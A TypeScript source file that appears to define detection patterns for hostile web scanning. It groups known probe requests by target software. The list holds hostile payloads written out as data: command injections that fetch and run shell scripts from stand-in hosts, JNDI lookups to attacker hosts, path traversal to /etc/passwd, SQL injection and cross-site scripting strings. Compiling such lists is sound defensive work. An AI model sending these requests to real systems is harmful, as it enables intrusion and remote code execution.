// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are the requests of scanners.
import { type ProbeKind, paths } from './probe-kind.ts';

/** Scans for known holes in applications, devices and servers. */
export const ATTACK_PROBES: readonly ProbeKind[] = [
  {
    name: 'joomla',
    requests: paths(
      '/api/index.php/v1/config/application?public=true /administrator/manifests/files/joomla.xml /administrator/ ' +
        '/joomla/administrator/index.php /configuration.php~ /configuration.php.bak /components/com_b2jcontact/izoc.php ' +
        '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(0x3e,user()),0) ' +
        '/language/en-GB/en-GB.xml /api/index.php/v1/users?public=true /plugins/system/debug/debug.xml /joomla.xml',
    ),
    notOn: 'joomla',
  },
  {
    name: 'drupal and magento',
    requests: paths(
      '/user/register?element_parents=account/mail/%23value&ajax_form=1 /sites/default/settings.php.bak /CHANGELOG.txt ' +
        '/core/CHANGELOG.txt /sites/all/modules/README.txt /app/etc/local.xml /app/etc/env.php /downloader/ /magento_version ' +
        '/admin/Cms_Wysiwyg/directive/index/ /?q=user/password&name[%23post_render][]=passthru /js/mage/cookies.js',
    ),
  },
  {
    name: 'laravel and symfony',
    requests: paths(
      '/_ignition/execute-solution /_ignition/health-check /telescope/requests /horizon/api/stats /_profiler/phpinfo ' +
        '/app_dev.php/_profiler/open?file=app/config/parameters.yml /_profiler/open?file=.env /app_dev.php /_debugbar/open ' +
        '/_fragment?_path=_controller=phpcredits /public/_ignition/execute-solution /laravel-filemanager?type=Files ' +
        '/config/app.php.bak /livewire/message/x.php',
    ),
  },
  {
    name: 'thinkphp',
    requests: paths(
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello ' +
        '/public/index.php?s=/index/\\think\\app/invokefunction&function=phpinfo&vars[0]=-1 ' +
        '/?s=captcha&_method=__construct&filter[]=system&method=get /TP/public/index.php ' +
        '/index.php?lang=../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("hi"));?>+/tmp/index1.php ' +
        '/thinkphp/html/public/index.php /TP/index.php?s=index/\\think\\Container/invokefunction ' +
        '/index.php?s=/module/action/param1/${@die(md5(1))} /html/public/index.php ' +
        '/index.php?s=index/\\think\\view\\driver\\Php/display&content=<?php+phpinfo();?>',
    ),
  },
  {
    name: 'php arguments',
    requests: paths(
      'POST|/cgi-bin/php?-d+allow_url_include=1+-d+auto_prepend_file=php://input ' +
        'POST|/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input ' +
        'POST|/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input ' +
        'POST|/cgi-bin/php5?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C /php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0 ' +
        'POST|/php/php-cgi.exe?-d+allow_url_include=on POST|/index.php?%ADd+allow_url_include%3d1 ' +
        '/cgi-bin/php4?-d+auto_prepend_file=/etc/passwd POST|/test.php?%ADd+allow_url_include%3d1+-d+x ' +
        'POST|/test.hello?%ADd+allow_url_include%3d1',
    ),
  },
  {
    name: 'traversal in the path',
    requests: paths(
      '/../../../../etc/passwd /..%2f..%2f..%2fetc/passwd /static/../../../../etc/passwd /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh ' +
        '/%2e%2e/%2e%2e/%2e%2e/etc/shadow /icons/.%%32%65/.%%32%65/etc/passwd /..;/manager/html /assets/..%5c..%5cwindows/win.ini ' +
        '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh /public/plugins/graph/../../../../../../etc/passwd ' +
        '/@fs/etc/passwd?raw?? /..%252f..%252fetc/passwd /images/..%c0%af..%c0%afetc/passwd /node/../../proc/self/environ',
    ),
  },
  {
    name: 'traversal in the query',
    requests: paths(
      '/index.php?page=../../../../etc/passwd /download?file=/etc/passwd%00 /?page=php://filter/convert.base64-encode/resource=index ' +
        '/view?f=..%2f..%2f..%2f..%2fetc%2fpasswd /get?path=C:%5cWindows%5cwin.ini /image?src=file:///etc/passwd ' +
        '/?file=../../../../../../proc/self/environ /show?name=....//....//....//etc/passwd /index.php?lang=../../../../boot.ini ' +
        '/report?template=/etc/shadow /?url=http://169.254.169.254/latest/meta-data/ /load?x=expect://id',
    ),
  },
  {
    name: 'sql injection',
    requests: paths(
      "/product?id=1'+UNION+SELECT+1,2,3--+- /item?id=1+AND+SLEEP(5) /news?id=-1+union+all+select+null,null,version() " +
        "/login?user=admin'+OR+'1'='1 /list?cat=1;WAITFOR+DELAY+'0:0:5'-- /p?id=1%27%20OR%201=1--%20 " +
        '/p?id=1+AND+EXTRACTVALUE(1,CONCAT(0x5c,version())) /search?q=1%27)+AND+(SELECT+1+FROM+(SELECT+SLEEP(5))a) ' +
        "/cat?id=1'+ORDER+BY+10--+ /item?id=7'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),5)||' /a?id=1+UNION+SELECT+table_name+FROM+information_schema.tables " +
        '/x?id=1)+or+pg_sleep(5)--',
    ),
  },
  {
    name: 'scripts in the query',
    requests: paths(
      '/search?q=<script>alert(1)</script> /?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E /p?name="><img+src=x+onerror=alert(1)> ' +
        '/x?cb=javascript:alert(1) /?q=<svg/onload=alert(1)> /page?title=%22%3E%3Csvg%20onload%3Dconfirm(1)%3E ' +
        '/find?term=\'><script>prompt(1)</script> /?lang=en"><script>alert(7)</script> /a?b=<iframe+src=javascript:alert(1)> ' +
        '/error?msg=<body+onload=alert(1)> /?x=%3Cimg%20src%3Dx%20onerror%3Dprompt(9)%3E /s?q={{7*7}}<script>alert(3)</script>',
    ),
  },
  {
    name: 'lookups and expressions',
    requests: paths(
      '/?x=${jndi:ldap://203.0.113.9/a} /${jndi:dns://x.evil.example/} /api?v=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D ' +
        '/login?u=${${lower:j}ndi:ldap://evil.example/x} /%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/ ' +
        "/index.action?redirect:${%23a=new+java.lang.ProcessBuilder('id')} /functionRouter?spring.cloud.function.routing-expression=T(java.lang.Runtime) " +
        '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x /?a=${jndi:rmi://203.0.113.9:1099/o} ' +
        '/solr/admin/cores?action=${jndi:ldap://evil.example/s} /?q=$%7B::-j%7Dndi:ldap://evil.example /%25%7B(%23_memberAccess=@ognl.OgnlContext)%7D',
    ),
  },
  {
    name: 'spring and java servers',
    requests: paths(
      '/actuator/env /actuator/heapdump /actuator/gateway/routes /actuator /heapdump /jolokia/list /manage/env /manager/html ' +
        '/host-manager/html /jmx-console/ /invoker/JMXInvokerServlet /web-console/ServerInfo.jsp /axis2/axis2-admin/ ' +
        '/struts2-showcase/index.action /actuator/health /WEB-INF/web.xml /manager/status /jolokia/version',
    ),
  },
  {
    name: 'shells in the query',
    requests: paths(
      '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws ' +
        '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/Mozi.m ' +
        '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ= /ping?ip=127.0.0.1;cat+/etc/passwd ' +
        '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://203.0.113.9/t`) ' +
        '/board.cgi?cmd=cat+/etc/passwd /language/Swedish${IFS}&&echo${IFS}610cker>qt&&tar${IFS}/string.js ' +
        '/goform/set_LimitClient_cfg?x=|wget+http://203.0.113.9/a /run?c=`curl+http://evil.example/x|sh` ' +
        '/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20/tmp;wget%20http://203.0.113.9/a.sh ' +
        '/x?exec=%3Bwget%20http%3A%2F%2Fevil.example%2Fb.sh /diag?host=8.8.8.8%26%26id%26%26chmod+777+/tmp/x',
    ),
  },
  {
    name: 'routers and cameras',
    requests: paths(
      'POST|/boaform/admin/formLogin /boaform/admin/formLogin?username=admin&psd=admin /HNAP1/ POST|/GponForm/diag_Form?images/ ' +
        '/tmUnblock.cgi /cgi-bin/ViewLog.asp /SDK/webLanguage /ISAPI/Security/users?auth=YWRtaW46MTEK /onvif/device_service ' +
        '/cgi-bin/authLogin.cgi /goform/formLogin POST|/cgi-bin/mainfunction.cgi /ctrlt/DeviceUpgrade_1 /hudson /cgi-bin/config.exp ' +
        '/rom-0 /currentsetting.htm',
    ),
  },
  {
    name: 'gateways',
    requests: paths(
      '/remote/login?lang=en /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession /dana-na/auth/url_default/welcome.cgi ' +
        '/+CSCOE+/logon.html /global-protect/login.esp /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp /vpn/index.html ' +
        '/vpns/cfg/smb.conf /sslvpn/Login/Login /my.policy /dana-ws/namedusers /remote/logincheck /ssl-vpn/getconfig.esp ' +
        '/nf/auth/doAuthentication.do /logon/LogonPoint/index.html /+CSCOT+/translation-table?type=mst /php/login.php/.js.map',
    ),
  },
  {
    name: 'exchange and sharepoint',
    requests: paths(
      '/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json /owa/auth/logon.aspx ' +
        '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application /owa/auth/x.js /aspnet_client/system_web/ ' +
        '/ews/exchange.asmx /_layouts/15/ToolPane.aspx?DisplayMode=Edit /_vti_bin/_vti_aut/author.dll /rpc/ /owa/ /_vti_pvt/service.cnf ' +
        '/ecp/y.js /elmah.axd /trace.axd /Telerik.Web.UI.WebResource.axd?type=rau /umbraco/',
    ),
  },
  {
    name: 'company software',
    requests: paths(
      '/pages/doenterpagevariables.action /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false ' +
        '/setup/setupadministrator.action /secure/ContactAdministrators!default.jspa /s/lkx/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties ' +
        '/geoserver/web/ /nifi-api/access/config /druid/index.html /solr/admin/info/system?wt=json /jenkins/script /asynchPeople/ ' +
        '/ui/vropspluginui/rest/services/uploadova /webui/logoutconfirm.html?logon_hash=1 /zabbix/favicon.ico /showLogin.cc ' +
        '/sitecore/shell/sitecore.version.xml /SAAS/API/1.0/REST/system/health/allOk',
    ),
  },
  {
    name: 'containers and data stores',
    requests: paths(
      '/v2/_catalog /containers/json /_cat/indices /_all_dbs /_search?size=1 /minio/bootstrap/v1/verify /v1.16/version ' +
        '/api/v1/namespaces/default/pods /_nodes /_cluster/health /_utils/ /docker/containers/json /version /api/v1/pods',
    ),
  },
  {
    name: 'server status',
    requests: paths(
      '/server-status /server-info /nginx_status /status?full /php-fpm_status /fpm-status /server-status?auto /haproxy?stats ' +
        '/status.php /cgi-bin/test-cgi /cgi-bin/printenv /cgi-bin/test.cgi /cgi-bin/status /cgi-bin/',
    ),
  },
];
